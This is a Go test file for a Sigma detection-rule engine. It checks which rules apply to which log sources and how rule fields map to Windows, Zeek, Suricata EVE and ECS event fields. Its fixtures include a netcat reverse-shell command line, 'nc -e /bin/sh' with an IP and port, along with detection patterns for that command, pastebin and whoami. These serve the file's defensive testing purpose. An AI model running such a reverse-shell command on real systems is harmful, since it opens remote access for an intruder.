package sigma

import (
	"net/netip"
	"testing"

	"github.com/khien-cert/khien/internal/event"
)

// lsRule compiles a rule with the given logsource and detection.
func lsRule(t *testing.T, id, logsource, detection string) *Rule {
	t.Helper()
	r, err := ParseRule([]byte("title: t\nid: " + id + "\nlogsource: " + logsource + "\ndetection:\n" + detection))
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func TestLogsourceFilter(t *testing.T) {
	ev := func(f event.Format, kind string, kv ...string) *event.Event {
		e := winEvent(kv...)
		e.Format, e.Kind = f, kind
		return e
	}
	win := event.FormatWindows
	cases := []struct {
		name, logsource string
		ev              *event.Event
		want            bool
	}{
		{"windows process_creation on Sysmon 1", "{product: windows, category: process_creation}", ev(win, "process_creation"), true},
		{"windows process_creation on a file event", "{product: windows, category: process_creation}", ev(win, "file_event"), false},
		{"windows process_creation on a Linux process", "{product: windows, category: process_creation}", ev(event.FormatSyslog, "process_creation"), false},
		{"an empty Kind passes the category", "{product: linux, category: process_creation}", ev(event.FormatJSON, ""), true},
		{"a Windows event without Kind has no category", "{product: windows, category: process_creation}", ev(win, ""), false},
		{"a Windows event without Kind meets service rules", "{product: windows, service: security}", ev(win, "", "Channel", "Security"), true},
		{"registry_event covers registry_set", "{product: windows, category: registry_event}", ev(win, "registry_set"), true},
		{"registry_set accepts an undivided registry_event", "{product: windows, category: registry_set}", ev(win, "registry_event"), true},
		{"registry_set is not registry_add", "{product: windows, category: registry_set}", ev(win, "registry_add"), false},
		{"service security by channel", "{product: windows, service: security}", ev(win, "security", "Channel", "Security"), true},
		{"service security on System", "{product: windows, service: security}", ev(win, "system", "Channel", "System"), false},
		{"service security without a channel, by Kind", "{product: windows, service: security}", ev(win, "security"), true},
		{"service sysmon by channel", "{product: windows, service: sysmon}", ev(win, "sysmon_status", "Channel", "Microsoft-Windows-Sysmon/Operational"), true},
		{"unknown windows service by channel text", "{product: windows, service: foo-bar}", ev(win, "x", "Channel", "Microsoft-Windows-Foo-Bar/Operational"), true},
		{"linux process_creation on syslog", "{product: linux, category: process_creation}", ev(event.FormatSyslog, "process_creation"), true},
		{"linux rule never on windows", "{product: linux, category: process_creation}", ev(win, "process_creation"), false},
		{"proxy on EVE http", "{category: proxy}", ev(event.FormatEVE, "http"), true},
		{"proxy on EVE dns", "{category: proxy}", ev(event.FormatEVE, "dns"), false},
		{"zeek dns on zeek dns", "{product: zeek, service: dns}", ev(event.FormatZeek, "dns"), true},
		{"zeek dns on zeek conn", "{product: zeek, service: dns}", ev(event.FormatZeek, "conn"), false},
		{"zeek dns on EVE dns", "{product: zeek, service: dns}", ev(event.FormatEVE, "dns"), false},
		{"dns category on Sysmon 22", "{category: dns}", ev(win, "dns_query"), true},
		{"aws on generic JSON", "{product: aws, service: cloudtrail}", ev(event.FormatJSON, ""), true},
		{"aws never on windows", "{product: aws, service: cloudtrail}", ev(win, ""), false},
		{"no logsource fits anything", "{}", ev(event.Format("custom"), "whatever"), true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := lsRule(t, "x", c.logsource, "    s:\n        A: '1'\n    condition: s\n")
			if got := r.AppliesTo(c.ev); got != c.want {
				t.Errorf("AppliesTo = %v, want %v", got, c.want)
			}
			rs, err := NewRuleSet(r)
			if err != nil {
				t.Fatal(err)
			}
			c.ev.Fields["A"] = "1"
			fired := false
			rs.Match(c.ev, func(*Rule, string, string) { fired = true })
			if fired != c.want {
				t.Errorf("RuleSet.Match fired = %v, want %v", fired, c.want)
			}
		})
	}
}

func TestFieldMapping(t *testing.T) {
	cases := []struct {
		name, logsource, detection string
		ev                         *event.Event
		field, value               string // the hit; empty field: no match
	}{
		{"zeek dns query from Hosts", "{product: zeek, service: dns}", "query|endswith: '.evil.example'",
			&event.Event{Format: event.FormatZeek, Kind: "dns", Hosts: []string{"ok.example", "a.evil.example"}},
			"query", "a.evil.example"},
		{"zeek dns query field itself", "{product: zeek, service: dns}", "query|endswith: '.evil.example'",
			&event.Event{Format: event.FormatZeek, Kind: "dns", Fields: map[string]string{"query": "b.evil.example"}, Hosts: []string{"x.evil.example"}},
			"query", "b.evil.example"},
		{"proxy c-uri from EVE http.url", "{category: proxy}", "c-uri|contains: '/wp-admin'",
			&event.Event{Format: event.FormatEVE, Kind: "http", Fields: map[string]string{"http.url": "/wp-admin/x.php"}},
			"c-uri", "/wp-admin/x.php"},
		{"proxy c-uri from URLs", "{category: proxy}", "c-uri|contains: '/wp-admin'",
			&event.Event{Format: event.FormatEVE, Kind: "http", URLs: []string{"http://a.example/wp-admin/"}},
			"c-uri", "http://a.example/wp-admin/"},
		{"proxy cs-host from http.hostname", "{category: proxy}", "cs-host: 'pastebin.com'",
			&event.Event{Format: event.FormatEVE, Kind: "http", Fields: map[string]string{"http.hostname": "PASTEBIN.com"}},
			"cs-host", "PASTEBIN.com"},
		{"proxy c-useragent from zeek user_agent", "{category: proxy}", "c-useragent|contains: 'curl'",
			&event.Event{Format: event.FormatZeek, Kind: "http", Fields: map[string]string{"user_agent": "curl/8.0"}},
			"c-useragent", "curl/8.0"},
		{"proxy dst_ip from DstIP", "{category: proxy}", "dst_ip|cidr: '10.0.0.0/8'",
			&event.Event{Format: event.FormatEVE, Kind: "http", DstIP: netip.MustParseAddr("10.9.9.9")},
			"dst_ip", "10.9.9.9"},
		{"network_connection DestinationIp from DstIP", "{category: network_connection}", "DestinationIp|cidr: '192.0.2.0/24'",
			&event.Event{Format: event.FormatEVE, Kind: "flow", DstIP: netip.MustParseAddr("192.0.2.7")},
			"DestinationIp", "192.0.2.7"},
		{"firewall dst_port from DstPort", "{category: firewall}", "dst_port: 3389",
			&event.Event{Format: event.FormatEVE, Kind: "flow", DstPort: 3389},
			"dst_port", "3389"},
		{"ECS process.command_line", "{product: linux, category: process_creation}", "CommandLine|contains: 'nc -e'",
			&event.Event{Format: event.FormatECS, Kind: "process_creation", Fields: map[string]string{"process.command_line": "nc -e /bin/sh 1.2.3.4 4444"}},
			"CommandLine", "nc -e /bin/sh 1.2.3.4 4444"},
		{"model CommandLine", "{product: linux, category: process_creation}", "CommandLine|contains: 'nc -e'",
			&event.Event{Format: event.FormatSyslog, Kind: "process_creation", CommandLine: "nc -e /bin/sh"},
			"CommandLine", "nc -e /bin/sh"},
		{"Security 4688 NewProcessName", "{product: windows, category: process_creation}", "Image|endswith: '\\whoami.exe'",
			&event.Event{Format: event.FormatWindows, Kind: "process_creation", Fields: map[string]string{"NewProcessName": `C:\Windows\System32\whoami.exe`}},
			"Image", `C:\Windows\System32\whoami.exe`},
		{"zeek array flattened by the decoder", "{product: zeek, service: dns}", "answers|contains: '10.1.'",
			&event.Event{Format: event.FormatZeek, Kind: "dns", Fields: map[string]string{"answers.0": "a.example", "answers.1": "10.1.2.3"}},
			"answers", "10.1.2.3"},
		{"no mapping outside its logsource", "{product: windows, category: process_creation}", "query: 'x.example'",
			&event.Event{Format: event.FormatWindows, Kind: "process_creation", Hosts: []string{"x.example"}},
			"", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := lsRule(t, "x", c.logsource, "    s:\n        "+c.detection+"\n    condition: s\n")
			if !r.AppliesTo(c.ev) {
				t.Fatal("rule does not apply to the event")
			}
			field, value, ok := r.Match(c.ev)
			if ok != (c.field != "") || field != c.field || value != c.value {
				t.Errorf("Match = %s=%q %v, want %s=%q", field, value, ok, c.field, c.value)
			}
		})
	}
}
